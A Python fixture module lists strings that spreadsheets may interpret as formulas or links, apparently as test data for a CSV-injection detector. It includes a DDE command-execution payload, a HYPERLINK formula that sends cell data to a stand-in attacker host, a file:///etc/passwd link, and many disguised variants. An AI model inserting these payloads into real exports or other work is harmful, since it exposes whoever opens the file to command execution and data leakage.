"""What a spreadsheet might take for a formula or a link (OWASP, CSV injection; and what it is known to be hidden by)."""

from __future__ import annotations

from typing import Final

FORMULAS: Final = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "+86 138 0013 8000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    " =1+1",
    "   \t @SUM(A1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1";=1+1',
    "=1+1,x",
    "{=1+1}"[1:-1],
]
LINKS: Final = [
    "http://evil.example",
    "https://evil.example",
    "mailto:a@x.example",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
]
HARMLESS: Final = ["plain", "a=1", "1-2", "x@y.example", "'=1", "", "~", "3+4", "ü"]
